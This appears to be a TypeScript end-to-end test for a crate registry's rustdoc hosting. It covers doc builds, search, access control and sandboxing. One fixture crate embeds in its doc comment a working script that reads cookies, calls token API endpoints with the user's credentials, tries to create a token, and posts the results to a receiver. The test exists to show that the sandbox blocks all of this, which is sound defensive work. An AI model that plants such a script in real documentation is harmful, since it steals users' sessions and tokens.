// Rustdoc hosting end to end: the real cargo publishes crates with doc comments to a real
// `cratekeeper serve` with the builder on; the builder's docs appear (one crate fetches a dependency
// through the registry with its read-only token); Debian's chromium reads them and rustdoc's search
// finds an item (its search index loads in the sandbox); a reader without access gets 404; and a
// doc comment holding a script that tries to read the session, call the API and post a form gets
// nothing usable, as it reports to a receiver of the test's own.

import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { makeTempDir } from '@cratekeeper/test-support/temp-dir';
import { launchChromium } from '../support/browser.js';
import { CargoSandbox, type CargoResult } from '../support/cargo.js';
import { eventually } from '../support/eventually.js';
import { runCli, startRegistry, type RunningRegistry } from '../support/registry-server.js';

function ok(result: CargoResult, what: string): CargoResult {
  assert.equal(result.code, 0, `${what} failed:\n${result.stderr}\n${result.stdout}`);
  return result;
}

const CONFIG = `
[docs]
build = true

[[access.rules]]
crates = ["docs-secret*"]
read = ["bob"]
`;

const DEMO = `//! Demonstrates documentation hosting.

/// Greets everyone in the room.
pub fn greet_everyone() -> &'static str { "hello" }
`;

/** A crate whose docs try to act as the reader, and report what they got to \`receiver\`. */
const hostile = (receiver: string) => `//! Innocent-looking docs.
//!
//! <script>
//! (async () => {
//!   const report = { origin: String(self.origin) };
//!   try { report.cookie = document.cookie; } catch (e) { report.cookie = 'error: ' + e.name; }
//!   const tries = [['me', '/api/v1/me/tokens', {}], ['tokensPage', '/tokens', {}], ['crates', '/api/v1/crates?q=docs', {}],
//!     ['create', '/api/v1/me/tokens', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"name":"stolen-by-docs"}' }]];
//!   for (const [name, path, init] of tries) {
//!     try {
//!       const answer = await fetch(path, { credentials: 'include', ...init });
//!       report[name] = 'status ' + answer.status + ': ' + (await answer.text()).slice(0, 300);
//!     } catch (e) { report[name] = 'error: ' + e.name; }
//!   }
//!   await fetch('${receiver}/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify(report) });
//!   const form = document.createElement('form');
//!   form.method = 'post';
//!   form.action = '/tokens';
//!   const field = document.createElement('input');
//!   field.name = 'name';
//!   field.value = 'stolen-by-docs';
//!   form.appendChild(field);
//!   document.body.appendChild(form);
//!   form.submit();
//! })();
//! </script>

/// Does nothing.
pub fn nothing() {}
`;

describe('rustdoc hosting end to end', () => {
  let server: RunningRegistry;
  let cargo: CargoSandbox;
  let browser: Browser;
  let receiver: Server;
  let receiverUrl = '';
  const reports: string[] = [];
  let bob = '';
  let eve = '';

  const api = (path: string, token: string) => fetch(`${server.url}${path}`, { headers: { authorization: token }, redirect: 'manual' });

  async function builtDocs(crate: string): Promise<void> {
    await eventually(
      async () => {
        const answer = (await (await api(`/api/v1/crates/${crate}/docs/builds`, bob)).json()) as {
          builds: { status: string; log: string }[];
        };
        const build = answer.builds[0];
        assert.ok(build, `a build of ${crate} is recorded`);
        assert.ok(build.status !== 'failed', `the build of ${crate} failed:\n${build.log}`);
        assert.equal(build.status, 'done');
      },
      300_000,
      250,
    );
  }

  async function signedInPage(token: string): Promise<Page> {
    const page = await (await browser.newContext()).newPage();
    await page.goto(`${server.url}/sign-in`);
    await page.fill('#sign-in-token', token);
    await page.locator('form[action="/me/token-sign-in"] button').click();
    await page.waitForURL((url) => url.pathname === '/');
    return page;
  }

  before(async () => {
    receiver = createServer((request, response) => {
      let body = '';
      request.on('data', (c: Buffer) => (body += c.toString()));
      request.on('end', () => {
        reports.push(body);
        response.end('thanks');
      });
    });
    await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve));
    receiverUrl = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}`;
    const configFile = join(makeTempDir('cratekeeper-docs-config-'), 'cratekeeper.toml');
    writeFileSync(configFile, CONFIG);
    server = await startRegistry({ args: ['--config', configFile] });
    for (const user of ['bob', 'eve']) assert.equal((await runCli(['user', 'add', user, '--data-dir', server.dataDir])).code, 0);
    bob = (await runCli(['token', 'create', '--user', 'bob', '--data-dir', server.dataDir])).stdout.trim();
    eve = (await runCli(['token', 'create', '--user', 'eve', '--data-dir', server.dataDir])).stdout.trim();
    cargo = new CargoSandbox();
    cargo.configure(`${server.url}/index/`);
    ok(await cargo.run(['login', '--registry', 'ck'], { input: `${bob}\n` }), 'cargo login');
    browser = await launchChromium();
  });
  after(async () => {
    await browser?.close();
    receiver?.close();
    assert.equal(await server.stop(), 0);
  });

  it('builds the docs of each published version, fetching dependencies through the registry', async () => {
    const packages = [
      cargo.createPackage({ name: 'docs-demo', version: '0.1.0', lib: DEMO }),
      cargo.createPackage({ name: 'docs-secret', version: '0.1.0', lib: DEMO }),
      cargo.createPackage({ name: 'docs-hostile', version: '0.1.0', lib: hostile(receiverUrl) }),
      cargo.createPackage({
        name: 'docs-user',
        version: '0.1.0',
        dependencies: ['docs-demo = { version = "0.1", registry = "ck" }'],
        lib: "//! Uses [docs_demo].\n\n/// Greets through docs-demo.\npub fn relay() -> &'static str { docs_demo::greet_everyone() }\n",
      }),
    ];
    for (const dir of packages)
      ok(await cargo.run(['publish', '--registry', 'ck', '--allow-dirty', '--no-verify'], { cwd: dir }), `publish ${dir}`);
    for (const crate of ['docs-demo', 'docs-secret', 'docs-hostile', 'docs-user']) await builtDocs(crate);
    const meta = (await (await api('/api/v1/crates/docs-demo', bob)).json()) as { crate: { documentation: string } };
    assert.equal(meta.crate.documentation, `${server.url}/docs/docs-demo/latest/`);
  });

  it('serves the docs in chromium, and rustdoc search finds an item', async () => {
    const page = await signedInPage(bob);
    await page.goto(`${server.url}/docs/docs-demo/latest/`);
    await page.waitForURL(/\/docs\/~\/[^/]+\/docs-demo\/0\.1\.0\/docs_demo\/index\.html$/);
    assert.match(await page.locator('.docblock').first().innerText(), /Demonstrates documentation hosting/);
    await page.goto(`${page.url()}?search=greet_everyone`);
    const result = page.locator('.search-results a', { hasText: 'greet_everyone' }).first();
    await result.waitFor({ timeout: 30_000 });
    await result.click();
    await page.waitForURL(/docs_demo\/fn\.greet_everyone\.html/);
    assert.match(await page.locator('.docblock').first().innerText(), /Greets everyone in the room/);
  });

  it('answers a reader without access with 404, and the owner with the docs', async () => {
    assert.equal((await api('/docs/docs-secret/latest/', eve)).status, 404);
    assert.equal((await api('/docs/docs-secret/latest/', bob)).status, 303);
    const page = await signedInPage(eve);
    const answer = await page.goto(`${server.url}/docs/docs-secret/latest/`);
    assert.equal(answer?.status(), 404);
  });

  it('gives a script in a doc comment nothing of the session, the API or the forms', async () => {
    const page = await signedInPage(bob);
    const consoleLines: string[] = [];
    page.on('console', (message) => consoleLines.push(message.text()));
    // What the script could change: which tokens exist and whether they are revoked. Their last use
    // moves on by itself (written in the background, seconds later), so it is left out.
    const bobsTokens = async () =>
      ((await (await api('/api/v1/me/tokens', bob)).json()) as { tokens: Array<Record<string, unknown>> }).tokens.map(
        ({ id, name, created_at, expires_at, revoked_at, scopes, crates }) => ({
          id,
          name,
          created_at,
          expires_at,
          revoked_at,
          scopes,
          crates,
        }),
      );
    const tokensBefore = await bobsTokens();
    await page.goto(`${server.url}/docs/docs-hostile/latest/`);
    const received = await eventually(() => {
      const found = reports.find((r) => r.includes('"origin"'));
      assert.ok(found, 'the script reported to the receiver');
      return found;
    }, 60_000);
    const report = JSON.parse(received) as Record<string, string>;
    // An opaque origin: no cookies to read, every answer of the registry unreadable.
    assert.equal(report.origin, 'null');
    assert.match(report.cookie!, /^error: SecurityError/);
    for (const name of ['me', 'tokensPage', 'crates', 'create'])
      assert.match(report[name]!, /^error: TypeError/, `${name}: ${report[name]}`);
    assert.ok(!JSON.stringify(report).includes('ckt_'), 'no token reached the script');
    // The form, posted last, was refused by the sandbox: the page is still the docs, and bob has no new token.
    await eventually(
      () =>
        assert.ok(
          consoleLines.some((m) => /Blocked form submission.*sandboxed.*allow-forms/.test(m)),
          consoleLines.join('\n'),
        ),
      30_000,
    );
    assert.match(page.url(), /\/docs\/~\/[^/]+\/docs-hostile\//);
    assert.deepEqual(await bobsTokens(), tokensBefore);
  });
});
